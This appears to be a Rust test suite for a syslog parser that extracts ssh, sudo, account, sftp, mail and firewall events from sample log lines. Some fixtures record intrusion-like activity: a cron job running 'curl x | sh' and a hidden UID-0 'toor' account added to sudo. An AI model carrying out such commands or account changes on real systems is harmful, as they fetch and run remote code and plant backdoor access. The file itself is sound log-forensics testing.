use super::*;
use crate::testing::parse;
use proptest::prelude::*;
use serde_json::json;

#[test]
fn each_form_gives_the_same_record() {
    let log = b"Feb 29 23:59:58 ferry sshd[42]: Accepted password for root from 192.0.2.7 port 4711 ssh2
<38>Feb  9 03:00:00 ferry sshd[42]: Accepted password for root from 192.0.2.7 port 4711 ssh2
2024-02-29T23:59:58.5+01:00 ferry sshd[42]: Accepted password for root from 192.0.2.7 port 4711 ssh2
<38>1 2024-02-29T23:59:58Z ferry sshd 42 - [a x=\"]\\\"\"][b] \xef\xbb\xbfAccepted password for root from 192.0.2.7 port 4711 ssh2\n";
    let parsed = parse(&Syslog, "/var/log/auth.log", "2024-03-01T12:00:00Z", log);
    let times = ["2024-02-29T23:59:58Z", "2024-02-09T03:00:00Z", "2024-02-29T22:59:58.5Z", "2024-02-29T23:59:58Z"];
    assert_eq!(parsed.all("time"), times);
    let bases = ["year-and-zone-inferred", "year-and-zone-inferred", "stated", "stated"];
    assert_eq!(parsed.all("basis"), bases);
    for event in &parsed.events {
        for (name, value) in [
            ("kind", json!("ssh.login")),
            ("host", json!("ferry")),
            ("program", json!("sshd")),
            ("pid", json!(42)),
            ("user", json!("root")),
            ("address", json!("192.0.2.7")),
            ("port", json!(4711)),
            ("method", json!("password")),
        ] {
            assert_eq!(event[name], value, "{event}");
        }
    }
    assert_eq!((parsed.row.records, parsed.row.others, parsed.error), (4, 0, None));
    let reason =
        "years counted back from the file's last change on 2024-03-01; zone UTC taken, since the image tells none";
    assert_eq!(parsed.row.times.as_deref(), Some(reason));
}

#[test]
fn rsyslog_writes_two_blanks_before_the_message_of_rfc_5424_and_a_word_for_a_priority_that_is_none() {
    let log = b"<38>1 2026-11-28T19:23:34.318420+00:00 h sshd 77 - -  Failed password for root from 192.0.2.7 port 1 ssh2
<38>1 2026-11-28T19:23:34.330105+00:00 h sshd 77 - -  message repeated 2 times: [ Failed password for root from 192.0.2.7 port 1 ssh2]
<37>1 2026-11-28T19:23:35+00:00 h sudo - - -      anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id
<invld>1 2026-11-28T19:23:36.587557+00:00 h high - - - 
<invld>Nov 28 19:23:37 h high: text\n";
    let parsed = parse(&Syslog, "/var/log/auth.log", "2026-12-01T12:00:00Z", log);
    assert_eq!(parsed.all("kind"), ["ssh.login-failed", "ssh.login-failed", "sudo.command", "syslog", "syslog"]);
    assert_eq!(parsed.all("user"), [json!("root"), json!("root"), json!("anna"), json!(null), json!(null)]);
    assert_eq!(parsed.events[0]["message"], "Failed password for root from 192.0.2.7 port 1 ssh2");
    assert_eq!(parsed.events[1]["repeated"], 2);
    assert_eq!(parsed.all("priority"), [json!(38), json!(38), json!(37), json!(null), json!(null)]);
    assert_eq!((&parsed.events[3]["program"], &parsed.events[4]["program"]), (&json!("high"), &json!("high")));
    assert_eq!(parsed.row.others, 0);
}

#[test]
fn what_goes_over_sftp_is_told_with_names_that_look_like_lines() {
    let log = br#"Jan  1 00:00:00 h internal-sftp[7]: session opened for local user anna from [192.0.2.7]
Jan  1 00:00:00 h sftp-server[7]: open "/srv/a b"c" flags READ mode 0666
Jan  1 00:00:00 h sftp-server[7]: close "/srv/a" bytes read 9 written 0" bytes read 6 written 0
Jan  1 00:00:00 h sftp-server[7]: forced close "/srv/x" bytes read 0 written 16
Jan  1 00:00:00 h sftp-server[7]: close "/srv/empty" bytes read 0 written 0
Jan  1 00:00:00 h sftp-server[7]: posix-rename old "/a" new "/b"
Jan  1 00:00:00 h sftp-server[7]: remove name "/b"
Jan  1 00:00:00 h sftp-server[7]: mkdir name "/d" mode 0777
Jan  1 00:00:00 h sftp-server[7]: session closed for local user anna from [192.0.2.7]
"#;
    let parsed = parse(&Syslog, "/var/log/auth.log", "2024-03-01T12:00:00Z", log);
    let kinds = [
        "sftp.session-opened",
        "sftp",
        "sftp.download",
        "sftp.upload",
        "sftp.close",
        "sftp.rename",
        "sftp.delete",
        "sftp.mkdir",
        "sftp.session-closed",
    ];
    assert_eq!(parsed.all("kind"), kinds);
    assert_eq!((&parsed.events[0]["user"], &parsed.events[8]["address"]), (&json!("anna"), &json!("192.0.2.7")));
    assert_eq!(parsed.events[2]["file"], "/srv/a\" bytes read 9 written 0");
    assert_eq!((&parsed.events[2]["bytes"], &parsed.events[3]["bytes"]), (&json!(6), &json!(16)));
    assert_eq!((&parsed.events[5]["to"], &parsed.events[7]["file"]), (&json!("/b"), &json!("/d")));
}

#[test]
fn the_user_of_a_failed_login_is_the_one_that_was_tried() {
    let log = b"Jan  1 00:00:00 h sshd[1]: Failed password for invalid user oracle from 192.0.2.7 port 1 ssh2
Jan  1 00:00:00 h sshd[1]: Failed none for invalid user a from b from 2001:db8::1 port 2 ssh2
Jan  1 00:00:00 h sshd[1]: Disconnected from authenticating user root 192.0.2.7 port 3 [preauth]
Jan  1 00:00:00 h sshd[1]: Accepted publickey for anna from 192.0.2.7 port 4 ssh2: RSA SHA256:abc\n";
    let parsed = parse(&Syslog, "/var/log/auth.log", "2024-03-01T12:00:00Z", log);
    assert_eq!(parsed.all("user"), ["oracle", "a from b", "root", "anna"]);
    assert_eq!(parsed.all("address"), ["192.0.2.7", "2001:db8::1", "192.0.2.7", "192.0.2.7"]);
    assert_eq!(parsed.all("port"), [1, 2, 3, 4]);
    assert_eq!(parsed.all("key"), [json!(null), json!(null), json!(null), json!("RSA SHA256:abc")]);
}

#[test]
fn a_password_that_pam_asked_for_counts_once_however_many_lines_tell_it() {
    let log = b"Jan  1 00:00:00 h sshd[1]: error: PAM: Authentication failure for anna from 192.0.2.7
Jan  1 00:00:00 h sshd[1]: Failed keyboard-interactive/pam for anna from 192.0.2.7 port 2 ssh2
Jan  1 00:00:00 h sshd[1]: error: PAM: User not known to the underlying authentication module for illegal user a for b from c from 192.0.2.7
Jan  1 00:00:00 h sshd[1]: Failed keyboard-interactive/pam for invalid user a for b from c from 192.0.2.7 port 2 ssh2
Jan  1 00:00:00 h sshd[1]: error: PAM: strange\n";
    let parsed = parse(&Syslog, "/var/log/auth.log", "2024-03-01T12:00:00Z", log);
    let kinds = ["ssh.login-failed", "ssh.auth-failed", "ssh.auth-failed", "ssh.login-failed", "ssh"];
    assert_eq!(parsed.all("kind"), kinds);
    let users = [json!("anna"), json!("anna"), json!("a for b from c"), json!("a for b from c"), json!(null)];
    assert_eq!(parsed.all("user"), users);
    for event in parsed.events.iter().take(4) {
        assert_eq!((&event["address"], &event["method"]), (&json!("192.0.2.7"), &json!("keyboard-interactive/pam")));
    }
    assert_eq!(parsed.events[0]["reason"], "Authentication failure");
    assert_eq!(parsed.events[2]["invalid"], true);
}

#[test]
fn connections_that_came_to_nothing_have_their_addresses() {
    let log = b"Jan  1 00:00:00 h sshd[1]: User bert from 192.0.2.7 not allowed because listed in DenyUsers
Jan  1 00:00:00 h sshd[1]: banner exchange: Connection from 192.0.2.7 port 25: invalid format
Jan  1 00:00:00 h sshd[1]: Connection from 192.0.2.7 port 25 on 192.0.2.1 port 22 rdomain \"\"
Jan  1 00:00:00 h sshd[1]: Unable to negotiate with 192.0.2.7 port 25: no matching MAC found. Their offer: x [preauth]
Jan  1 00:00:00 h sshd[1]: Did not receive identification string from 192.0.2.7
Jan  1 00:00:00 h sshd[1]: refused connect from example.com (192.0.2.7)
Jan  1 00:00:00 h sshd[1]: refused connect from a@::ffff:192.0.2.7 (::ffff:192.0.2.7)\n";
    let parsed = parse(&Syslog, "/var/log/auth.log", "2024-03-01T12:00:00Z", log);
    let connection = "ssh.connection";
    let kinds = ["ssh.refused", connection, connection, connection, connection, "ssh.refused", "ssh.refused"];
    assert_eq!(parsed.all("kind"), kinds);
    assert_eq!(parsed.all("address"), ["192.0.2.7"; 7]);
    let none = json!(null);
    assert_eq!(parsed.all("port"), [none.clone(), json!(25), json!(25), json!(25), none.clone(), none.clone(), none]);
    assert_eq!(
        (&parsed.events[0]["user"], &parsed.events[0]["reason"]),
        (&json!("bert"), &json!("listed in DenyUsers"))
    );
}

#[test]
fn who_joined_and_left_a_group_and_by_whom() {
    let log = b"Jan  1 00:00:00 h usermod[1]: add 'bert' to group 'sudo'
Jan  1 00:00:00 h usermod[1]: add 'bert' to shadow group 'sudo'
Jan  1 00:00:00 h userdel[1]: delete 'bert' from group 'sudo'
Jan  1 00:00:00 h gpasswd[1]: user bert added by root to group sudo
Jan  1 00:00:00 h gpasswd[1]: user bert removed by root from group sudo
Jan  1 00:00:00 h userdel[1]: delete user 'bert'
Jan  1 00:00:00 h chage[1]: changed password expiry for bert
Jan  1 00:00:00 h gpasswd[1]: user bert added\n";
    let parsed = parse(&Syslog, "/var/log/auth.log", "2024-03-01T12:00:00Z", log);
    let (joined, left) = ("account.group-joined", "account.group-left");
    assert_eq!(
        parsed.all("kind"),
        [joined, joined, left, joined, left, "account.removed", "account.changed", "account"]
    );
    for (number, event) in parsed.events.iter().enumerate() {
        let (is_of_group, is_by, is_whole) = (number < 5, number == 3 || number == 4, number < 7);
        assert_eq!(event["group"], if is_of_group { json!("sudo") } else { json!(null) }, "{event}");
        assert_eq!(event["by"], if is_by { json!("root") } else { json!(null) }, "{event}");
        assert_eq!(event["user"], if is_whole { json!("bert") } else { json!(null) }, "{event}");
    }
}

#[test]
fn zeroes_of_a_crash_and_lines_of_no_form_are_told_and_the_rest_goes_on() {
    let log =
        b"Jan  1 00:00:00 h a: one\n\0\0\0Jan  1 00:00:01 h a: two\n\0\0\0\nno syslog\nJan  1 00:00:02 h a: \xff\x1b\n";
    let parsed = parse(&Syslog, "/var/log/syslog", "2024-03-01T12:00:00Z", log);
    let messages = [json!("one"), json!("two"), json!("no syslog"), json!("\\xff\\u{1b}")];
    assert_eq!(parsed.all("message"), messages);
    assert_eq!((parsed.row.records, parsed.row.others, parsed.issues.len()), (3, 1, 3));
    assert_eq!(parsed.issues[2].to_string(), "/var/log/syslog, bytes 57-67: no line of syslog");
}

#[test]
fn many_zeroes_within_a_line_part_it_and_are_an_event_with_their_place() {
    let (one, two) = ("Jan  1 00:00:00 h a: one", "wo\nJan  1 00:00:09 h a: three\n");
    let log = [one.as_bytes(), &[0; 4000], two.as_bytes()].concat();
    let parsed = parse(&Syslog, "/var/log/syslog", "2024-03-01T12:00:00Z", &log);
    assert_eq!(parsed.all("kind")[1], json!("log.zeroes"));
    assert_eq!(parsed.all("message"), ["one", "4000 bytes of zeroes", "wo", "three"]);
    assert_eq!(
        (parsed.all("offset"), parsed.all("length")),
        (vec![json!(0), json!(24), json!(4024), json!(4027)], vec![json!(24), json!(4000), json!(3), json!(27)],)
    );
    assert_eq!((parsed.row.records, parsed.row.others, parsed.issues.len()), (2, 1, 2));
    assert!(parsed.issues[0].to_string().starts_with("/var/log/syslog, bytes 24-4024: zeroes in the place of lines"));
    // Few of them are a part of what a program wrote.
    let log = [one.as_bytes(), &[0; 15], two.as_bytes()].concat();
    let parsed = parse(&Syslog, "/var/log/syslog", "2024-03-01T12:00:00Z", &log);
    assert_eq!((parsed.events.len(), parsed.row.others, parsed.issues.len()), (2, 0, 0));
}

#[test]
fn times_of_no_calendar_are_told_and_their_events_kept() {
    let log = b"2024-02-31T10:00:00Z ferry sshd[1]: a\n2024-03-01T10:00:00Z ferry sshd[1]: b\n";
    let parsed = parse(&Syslog, "/var/log/auth.log", "2024-03-02T12:00:00Z", log);
    assert_eq!(parsed.all("time"), [json!(null), json!("2024-03-01T10:00:00Z")]);
    let told: Vec<String> = parsed.issues.iter().map(ToString::to_string).collect();
    assert_eq!(
        told,
        [
            "/var/log/auth.log: times that are on no calendar, or before 1678 or after 2261: 1; their events have no time"
        ]
    );
}

#[test]
fn commands_accounts_and_sessions_have_fields_of_their_own() {
    let log = b"Jan  1 00:00:00 h sudo:     anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/bin/sh -c a ; b
Jan  1 00:00:00 h sudo:     anna : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id
Jan  1 00:00:00 h su[7]: (to root) anna on pts/1
Jan  1 00:00:00 h sshd[7]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)
Jan  1 00:00:00 h vsftpd: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=anna rhost=192.0.2.7  user=anna
Jan  1 00:00:00 h useradd[7]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0
Jan  1 00:00:00 h usermod[7]: add 'toor' to group 'sudo'
Jan  1 00:00:00 h passwd[7]: pam_unix(passwd:chauthtok): password changed for toor
Jan  1 00:00:00 h CRON[7]: (root) CMD (   curl x | sh)
Jan  1 00:00:00 h crontab[7]: (anna) REPLACE (anna)
Jan  1 00:00:00 h systemd[1]: Started ssh.service - OpenBSD Secure Shell server.
Jan  1 00:00:00 h systemd-logind[9]: New session 5 of user anna.
Jan  1 00:00:00 h systemd-logind[9]: New session c1 of user 'gdm' with class 'greeter' and type 'x11'.
Jan  1 00:00:00 h systemd-logind[9]: Removed session 5.
Jan  1 00:00:00 h kernel: [  12.345] [UFW BLOCK] IN=eth0 OUT= MAC= SRC=192.0.2.7 DST=10.0.0.1 LEN=40 PROTO=TCP SPT=1 DPT=23\n";
    let parsed = parse(&Syslog, "/var/log/auth.log", "2024-03-01T12:00:00Z", log);
    let expected = [
        json!({"kind": "sudo.command", "user": "anna", "tty": "pts/0", "directory": "/home/anna", "target": "root",
            "command": "/bin/sh -c a ; b"}),
        json!({"kind": "sudo.refused", "user": "anna", "reason": "3 incorrect password attempts", "command": "/bin/id"}),
        json!({"kind": "su.session", "user": "anna", "target": "root", "tty": "pts/1", "pid": 7}),
        json!({"kind": "pam.session-opened", "user": "root", "service": "sshd", "uid": 0, "by_uid": 0}),
        json!({"kind": "pam.failed", "user": "anna", "address": "192.0.2.7", "service": "vsftpd", "tty": "ftp"}),
        json!({"kind": "account.added", "user": "toor", "uid": 0, "gid": 0, "home": "/root", "shell": "/bin/bash"}),
        json!({"kind": "account.group-joined", "user": "toor"}),
        json!({"kind": "account.password-changed", "user": "toor"}),
        json!({"kind": "cron.command", "user": "root", "command": "curl x | sh"}),
        json!({"kind": "cron.changed", "user": "anna", "action": "REPLACE", "target": "anna"}),
        json!({"kind": "systemd.unit", "unit": "ssh.service", "action": "Started"}),
        json!({"kind": "logind.session-opened", "user": "anna", "session": "5"}),
        json!({"kind": "logind.session-opened", "user": "gdm", "session": "c1"}),
        json!({"kind": "logind.session-closed", "session": "5"}),
        json!({"kind": "kernel.firewall", "prefix": "[UFW BLOCK]", "address": "192.0.2.7", "destination": "10.0.0.1",
            "port": 1, "to_port": 23, "protocol": "TCP", "interface": "eth0"}),
    ];
    parsed.assert_events(&expected);
}

#[test]
fn a_line_that_stands_for_others_says_what_they_said_and_how_often() {
    let failed = "Failed password for root from 192.0.2.7 port 1 ssh2";
    let log = format!(
        "Jan  1 00:00:00 h sshd[1]: {failed}
Jan  1 00:00:01 h sshd[1]: message repeated 5 times: [ {failed}]
Jan  1 00:00:02 h last message repeated 3 times
Jan  1 00:00:03 h cron[2]: (root) LIST (root)
Jan  1 00:00:04 h last message repeated 1 time
Jan  1 00:00:05 other last message repeated 2 times
Jan  1 00:00:06 h sshd[1]: message repeated many times: [ x]
"
    );
    let parsed = parse(&Syslog, "/var/log/auth.log", "2024-03-01T12:00:00Z", log.as_bytes());
    let kinds = ["ssh.login-failed", "ssh.login-failed", "ssh.login-failed", "cron", "cron", "syslog", "ssh"];
    assert_eq!(parsed.all("kind"), kinds);
    assert_eq!(parsed.all("repeated")[..5], [json!(null), json!(5), json!(3), json!(null), json!(1)]);
    assert_eq!(parsed.all("address")[..3], ["192.0.2.7", "192.0.2.7", "192.0.2.7"]);
    assert_eq!(parsed.all("message")[2], "last message repeated 3 times");
}

#[test]
fn packets_of_either_family_have_their_addresses_flags_and_verdict() {
    let log = b"Jan  1 00:00:00 h kernel: [1.5] [UFW BLOCK] IN=eth0 OUT= MAC=aa SRC=192.0.2.7 DST=10.0.0.1 LEN=40 TTL=1 ID=1 DF PROTO=TCP SPT=1 DPT=23 WINDOW=1 RES=0x00 ACK SYN URGP=0\x20
Jan  1 00:00:00 h kernel: IN=eth0 OUT=eth1 SRC=2001:0db8:0000:0000:0000:0000:0000:0007 DST=fe80:0000:0000:0000:0000:0000:0000:0001 LEN=64 TC=0 HOPLIMIT=255 FLOWLBL=0 PROTO=ICMPv6 TYPE=128 CODE=0 ID=1 SEQ=2
Jan  1 00:00:00 h kernel: FINAL_REJECT: IN=eth0 OUT= SRC=192.0.2.8 DST=10.0.0.1 PROTO=ICMP TYPE=3 CODE=1 [SRC=10.0.0.1 DST=192.0.2.9 PROTO=UDP SPT=7 DPT=9 ]
";
    let parsed = parse(&Syslog, "/var/log/ufw.log", "2024-03-01T12:00:00Z", log);
    assert_eq!(parsed.all("kind"), ["kernel.firewall"; 3]);
    assert_eq!(parsed.all("address"), ["192.0.2.7", "2001:db8::7", "192.0.2.8"]);
    assert_eq!(parsed.all("action"), [json!("block"), json!(null), json!("block")]);
    assert_eq!(parsed.all("flags"), [json!("ACK SYN"), json!(null), json!(null)]);
    assert_eq!(parsed.all("icmp_type"), [json!(null), json!(128), json!(3)]);
    assert_eq!(parsed.all("destination")[2], "10.0.0.1");
    assert_eq!(parsed.all("port")[2], json!(null));
}

#[test]
fn mail_servers_tell_who_logged_in_and_what_they_did_with_mails() {
    let log = b"Jan  1 00:00:00 h postfix/smtpd[1]: warning: unknown[192.0.2.7]: SASL LOGIN authentication failed: UGFzc3dvcmQ6, sasl_username=info
Jan  1 00:00:00 h postfix/submission/smtpd[1]: 4A1B2C: client=pc.example[2001:db8::7], sasl_method=PLAIN, sasl_username=anna
Jan  1 00:00:00 h postfix/smtpd[1]: connect from pc.example[192.0.2.8]
Jan  1 00:00:00 h postfix/smtpd[1]: NOQUEUE: reject: RCPT from unknown[192.0.2.9]: 554 5.7.1 <x@y>: Relay access denied; from=<a@b> to=<x@y> proto=ESMTP helo=<z>
Jan  1 00:00:00 h postfix/pickup[1]: 4A1B2D: uid=33 from=<www-data>
Jan  1 00:00:00 h postfix/qmgr[1]: 4A1B2D: from=<www-data@h>, size=512, nrcpt=1 (queue active)
Jan  1 00:00:00 h postfix/smtp[1]: 4A1B2D: to=<x@example.org>, relay=mx.example.org[192.0.2.1]:25, delay=1, dsn=2.0.0, status=sent (250 ok)
Jan  1 00:00:00 h dovecot: imap-login: Login: user=<anna>, method=PLAIN, rip=192.0.2.7, lip=10.0.0.1, mpid=5, TLS, session=<x>
Jan  1 00:00:00 h dovecot: pop3-login: Disconnected (auth failed, 3 attempts in 9 secs): user=<root>, method=PLAIN, rip=192.0.2.7, lip=10.0.0.1
Jan  1 00:00:00 h dovecot: auth-worker(7): pam(root,192.0.2.7): pam_authenticate() failed: Authentication failure
Jan  1 00:00:00 h dovecot: imap(anna)<5><x>: Logged out in=1 out=2\n";
    let parsed = parse(&Syslog, "/var/log/mail.log", "2024-03-01T12:00:00Z", log);
    let expected = [
        json!({"kind": "mail.login-failed", "user": "info", "address": "192.0.2.7", "method": "LOGIN", "remote_host": null,
            "reason": "UGFzc3dvcmQ6"}),
        json!({"kind": "mail.login", "user": "anna", "address": "2001:db8::7", "method": "PLAIN", "queue": "4A1B2C",
            "remote_host": "pc.example"}),
        json!({"kind": "mail.connect", "address": "192.0.2.8"}),
        json!({"kind": "mail.rejected", "address": "192.0.2.9", "from": "a@b", "to": "x@y"}),
        json!({"kind": "mail.submitted", "user": "www-data", "uid": 33}),
        json!({"kind": "mail.queued", "from": "www-data@h", "size": 512}),
        json!({"kind": "mail.delivered", "to": "x@example.org", "relay": "mx.example.org[192.0.2.1]:25", "status": "sent"}),
        json!({"kind": "mail.login", "user": "anna", "address": "192.0.2.7", "service": "imap", "local_address": "10.0.0.1"}),
        json!({"kind": "mail.login-failed", "user": "root", "address": "192.0.2.7", "attempts": 3, "service": "pop3"}),
        json!({"kind": "mail.auth-failed", "user": "root", "address": "192.0.2.7"}),
        json!({"kind": "mail.session-closed", "user": "anna", "service": "imap"}),
    ];
    parsed.assert_events(&expected);
}

#[test]
fn what_repeats_a_line_of_no_form_is_no_failed_login() {
    let log = b"Jan  1 00:00:00 h sshd[7]: Failed password for root from 192.0.2.7 port 1 ssh2\nno syslog\nJan  1 00:00:05 h last message repeated 3 times\n";
    let parsed = parse(&Syslog, "/var/log/auth.log", "2024-03-01T12:00:00Z", log);
    assert_eq!(parsed.all("kind")[..2], ["ssh.login-failed", "syslog.other"]);
    assert_ne!(parsed.all("kind")[2], "ssh.login-failed");
}

#[test]
fn a_day_may_have_one_place_and_old_versions_of_sshd_set_a_colon() {
    let log = b"Mar 2 15:40:14 h sshd[1]: Received disconnect from 192.0.2.7: 11: disconnected by user\n";
    let parsed = parse(&Syslog, "/var/log/auth.log", "2024-03-03T12:00:00Z", log);
    assert_eq!(
        (&parsed.all("time")[0], &parsed.all("address")[0]),
        (&json!("2024-03-02T15:40:14Z"), &json!("192.0.2.7"))
    );
}

proptest! {
    #[test]
    fn any_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..200), start in 0..STARTS.len()) {
        let _ = parse(&Syslog, "/x", "2024-03-01T12:00:00Z", &[STARTS[start], &bytes].concat());
    }
}

/// Beginnings of lines that lead into each part of the parser.
const STARTS: [&[u8]; 17] = [
    b"Feb 29 23:59:58 h postfix/smtpd[1]: warning: a[b]: SASL ",
    b"Feb 29 23:59:58 h postfix/smtp[1]: A1: ",
    b"Feb 29 23:59:58 h dovecot: imap-login: ",
    b"Feb 29 23:59:58 h exim: 1rfXYZ-0001AB-2C <= ",
    b"",
    b"<1>",
    b"<38>1 ",
    b"<38>1 - - - - - [a b=\"",
    b"2024-02-29T23:59:58 h sshd: Disconnected from ",
    b"Feb 29 23:59:58 h sshd[42]: Failed ",
    b"Feb 29 23:59:58 h sshd[42]: Accepted password for ",
    b"Feb 29 23:59:58 h sudo: anna : TTY=",
    b"Feb 29 23:59:58 h su: (to ",
    b"Feb 29 23:59:58 h x: pam_unix(x:y): authentication failure; ",
    b"Feb 29 23:59:58 h useradd: new user: name=",
    b"Feb 29 23:59:58 h CRON[1]: (root) ",
    b"Feb 29 23:59:58 h kernel: [1] IN= SRC=",
];
